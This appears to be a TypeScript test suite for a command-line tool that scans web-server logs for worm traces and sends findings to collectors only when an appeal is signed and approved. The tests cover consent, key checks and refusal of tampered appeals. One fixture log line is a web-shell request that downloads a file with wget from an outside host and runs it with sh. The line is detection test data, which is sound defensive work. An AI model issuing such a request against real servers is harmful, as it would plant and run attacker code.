import { deepEqual, equal, match } from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import {
  type Appeal,
  type Instant,
  type Signature,
  signatures,
  signaturesVersion,
} from '@redalert/core'
import { anyAppeal, type AnyKey, anyKey } from '../answer/any-appeal.ts'
import { type AnyCollector, anyCollector } from '../submit/any-collector.ts'
import { besides } from './besides.ts'
import { folderOf } from './program.ts'
import { backDoor, codeRed, line, visitor } from './sample-lines.ts'

const log = [
  codeRed('192.88.1.7'),
  codeRed('192.88.1.8', { time: '18/Jul/2001:16:08:55 +0200' }),
  codeRed('192.88.1.9', { time: '20/Jul/2001:16:08:55 +0200' }),
  codeRed('10.0.0.5'),
  backDoor,
  visitor,
].join('')
const machine = (files: Record<string, string> = {}) => folderOf({ 'access.log': log, ...files })
const key = anyKey()

/** A collector that publishes an appeal, whose answers come to it. */
async function appealing(
  given: Partial<Appeal> = {},
  by: AnyKey = key,
): Promise<AnyCollector & { readonly page: string }> {
  const collector = await anyCollector()
  const appeal = anyAppeal(by, { to: { url: collector.url, mail: null }, ...given })
  collector.pages.set('/appeals/july.json', JSON.stringify(appeal))
  return { ...collector, page: `${collector.url}/appeals/july` }
}

test('an appeal is shown, and answered with what it asks for and nothing else', async () => {
  const collector = await appealing()
  const folder = machine()
  const ran = await besides(['answer', '--yes', collector.page, 'access.log'], { folder })
  equal(ran.code, 0, ran.told)
  deepEqual(collector.objections, [])
  match(ran.told, /^Logs wanted\n\n {2}Please help\.\n\n {2}Thank you\.\n/)
  match(ran.told, /By The example collector, operator@example\.org, signed with the key/)
  const [submission] = [...collector.kept.values()]
  deepEqual(
    submission!.cells.map(({ source }) => source as string),
    ['192.88.1.7'],
    'of those days, of that family, and of nobody at home',
  )
  deepEqual(submission!.coverage[0]!.hours, { '2001-07-19T14': 4 })
  match(ran.out, /^received by http:\/\/127\.0\.0\.1/)
  const again = await besides(['answer', '--yes', `${collector.page}.json`, 'access.log'], {
    folder,
  })
  equal(again.code, 0, again.told)
})

test('it speaks the language of its reader where the appeal does', async () => {
  const collector = await appealing()
  const words = ['answer', '--dry-run', collector.page, 'access.log']
  const ran = await besides(words, { folder: machine(), env: { LC_ALL: 'nl_NL.UTF-8' } })
  match(ran.told, /^Logboeken gevraagd\n/)
  equal(JSON.parse(ran.out).kind, 'submission')
  equal(collector.kept.size, 0)
})

test('nothing leaves before its owner says yes', async () => {
  const collector = await appealing()
  const folder = machine()
  const ran = await besides(['answer', collector.page, 'access.log'], { folder })
  match(ran.told, /nothing was sent: say --yes/)
  deepEqual([ran.code, collector.kept.size], [2, 0])
  equal(existsSync(join(folder, 'state/redalert/appeal-keys.json')), false)
})

test('a log in which there is nothing is an answer', async () => {
  const collector = await appealing()
  const folder = folderOf({ 'access.log': visitor })
  const ran = await besides(['answer', '--yes', collector.page, 'access.log'], { folder })
  equal(ran.code, 0, ran.told)
  const [submission] = [...collector.kept.values()]
  deepEqual([submission!.cells.length, submission!.coverage[0]!.hours], [0, { '2001-07-19T14': 1 }])
})

test('logs that cannot be of those days are not opened', async () => {
  const collector = await appealing()
  const folder = machine({ 'ex010612.log': codeRed('192.88.1.1') })
  const words = ['answer', '--yes', collector.page, 'ex010612.log', 'access.log']
  match((await besides(words, { folder })).told, /ex010612\.log was not opened/)
})

const stolen = anyKey()
const altered =
  (change: (appeal: Appeal) => Appeal) => async (): Promise<AnyCollector & { page: string }> => {
    const collector = await appealing()
    const text = collector.pages.get('/appeals/july.json')!
    collector.pages.set('/appeals/july.json', JSON.stringify(change(JSON.parse(text) as Appeal)))
    return collector
  }
for (const [what, made, sentence] of [
  [
    'whose families were altered',
    altered(appeal => ({ ...appeal, families: ['nimda'] })),
    /its signature does not hold/,
  ],
  [
    'whose answers were turned elsewhere',
    altered(appeal => ({ ...appeal, to: { url: 'https://thief.example.org', mail: null } })),
    /its signature does not hold/,
  ],
  [
    'that bears the key of another',
    altered(appeal => ({ ...appeal, key: stolen.key })),
    /its signature does not hold/,
  ],
  [
    'with a field that nobody knows',
    altered(appeal => ({ ...appeal, run: 'rm' }) as Appeal),
    /run/,
  ],
  [
    'that is over',
    () => appealing({ deadline: '2001-07-27T12:00:00Z' as Instant }),
    /this appeal is over: its answers were wanted until 2001-07-27T12:00:00Z/,
  ],
  [
    'that another place hands out',
    () => appealing({ to: { url: 'https://collector.example.org', mail: null } }),
    /its answers go to https:\/\/collector\.example\.org: compare its key/,
  ],
  [
    'for nothing that is known',
    () => appealing({ families: ['nothing'] }),
    /asks for nothing that/,
  ],
] as const) {
  test(`refused: an appeal ${what}`, async () => {
    const collector = await made()
    const words = ['answer', '--yes', collector.page, 'access.log']
    const ran = await besides(words, { folder: machine() })
    equal(ran.code, 2, ran.told)
    match(ran.told, sentence)
    equal(collector.kept.size, 0)
  })
}

test('once answered, an appeal of the same place with another key is refused', async () => {
  const folder = machine()
  const collector = await appealing()
  const words = ['answer', '--yes', collector.page, 'access.log']
  equal((await besides(words, { folder })).code, 0)
  const file = join(folder, 'state/redalert/appeal-keys.json')
  deepEqual(JSON.parse(readFileSync(file, 'utf8')), { [collector.url]: key.key })
  const forged = anyAppeal(stolen, { to: { url: collector.url, mail: null } })
  collector.pages.set('/appeals/july.json', JSON.stringify(forged))
  const ran = await besides(words, { folder })
  equal(ran.code, 2)
  match(ran.told, /signed its earlier appeals with another key/)
  const wrong = await besides([...words, '--key', key.key], { folder })
  match(wrong.told, /signed with another key/)
  equal((await besides([...words, '--key', stolen.key], { folder })).code, 0)
})

test('an appeal that came as a file is answered when its key is named, or known', async () => {
  const collector = await appealing()
  const appeal = anyAppeal(key, { to: { url: collector.url, mail: null } })
  const folder = machine({ 'appeal.json': JSON.stringify(appeal) })
  const words = ['answer', '--yes', 'appeal.json', 'access.log']
  const unknown = await besides(words, { folder })
  equal(unknown.code, 2)
  match(unknown.told, new RegExp(`say --key ${key.key}`))
  equal((await besides([...words, '--key', key.key], { folder })).code, 0)
  equal((await besides(words, { folder })).code, 0)
})

const jaws = signatures.find(({ id }) => id === 'jaws')!
const claws = JSON.parse(
  JSON.stringify({ ...jaws, id: 'claws', name: 'Claws' })
    .replaceAll('jaws-', 'claws-')
    .replaceAll('"/shell"', '"/clawshell"')
    .replaceAll(/(GET|POST|HEAD) \/shell/g, '$1 /clawshell'),
) as Signature
const clawsLog = line('192.88.1.7', 'GET /clawshell?cd+/tmp;wget+http://192.88.1.7/m;sh+m HTTP/1.1')

test('a family that an appeal brings is looked for where the logs are', async () => {
  const collector = await appealing({ families: [], signatures: [claws] })
  const folder = folderOf({ 'access.log': clawsLog + visitor })
  const ran = await besides(['answer', '--yes', collector.page, 'access.log'], { folder })
  equal(ran.code, 0, ran.told)
  match(ran.told, /Claws is new to this program: the appeal brought it/)
  const [submission] = [...collector.kept.values()]
  deepEqual(
    submission!.cells.map(({ mark }) => mark),
    ['claws-run'],
  )
  const [coverage] = submission!.coverage
  match(coverage!.signatures, new RegExp(`^${signaturesVersion}\\+[0-9a-f]{8}$`))
})

const [someMark = '', rule] = Object.entries(claws.marks)[0] ?? []
const loose = {
  ...claws,
  marks: { ...claws.marks, [someMark]: { ...rule!, when: { path: { startsWith: '/' } } } },
} as Signature
for (const [what, family, note] of [
  ['accuses everybody', loose, /family 1 of the appeal does not convince/],
  ['is no family', { id: 'claws' } as Signature, /family 1 of the appeal does not convince/],
  ['says anew what one is that is known', jaws, /says what jaws is: this program knows better/],
] as const) {
  test(`a family of an appeal that ${what} is not looked for`, async () => {
    const collector = await appealing({ families: [], signatures: [family] })
    const folder = folderOf({ 'access.log': clawsLog + visitor })
    const ran = await besides(['answer', '--yes', collector.page, 'access.log'], { folder })
    match(ran.told, note)
    match(ran.told, /asks for nothing that this program can look for/)
    deepEqual([ran.code, collector.kept.size], [2, 0])
  })
}

test('a family that is altered on its way makes the whole appeal none', async () => {
  const collector = await appealing({ families: ['codered-n'], signatures: [claws] })
  const text = collector.pages.get('/appeals/july.json')!
  collector.pages.set('/appeals/july.json', text.replaceAll('/clawshell', '/'))
  const ran = await besides(['answer', '--yes', collector.page, 'access.log'], {
    folder: machine(),
  })
  match(ran.told, /its signature does not hold/)
  deepEqual([ran.code, collector.kept.size], [2, 0])
})

for (const [word, sentence] of [
  ['http://collector.example.org/appeals/july', /goes over http, where others/],
  ['https://me:pw@collector.example.org/appeals/july', /is no web address/],
  ['nowhere.json', /cannot be read/],
  ['access.log', /it is not JSON/],
] as const) {
  test(`refused: ${word}`, async () => {
    const ran = await besides(['answer', '--yes', word, 'access.log'], { folder: machine() })
    equal(ran.code, 2)
    match(ran.told, sentence)
  })
}

test('what is there in place of an appeal is told', async () => {
  const collector = await anyCollector()
  collector.pages.set('/appeals/long.json', ' '.repeat(5_000_000))
  for (const [name, sentence] of [
    ['none', /there is no appeal at \S+: it answers 404/],
    ['long', /is too long to be an appeal/],
  ] as const) {
    const words = ['answer', '--yes', `${collector.url}/appeals/${name}`, 'access.log']
    match((await besides(words, { folder: machine() })).told, sentence)
  }
})
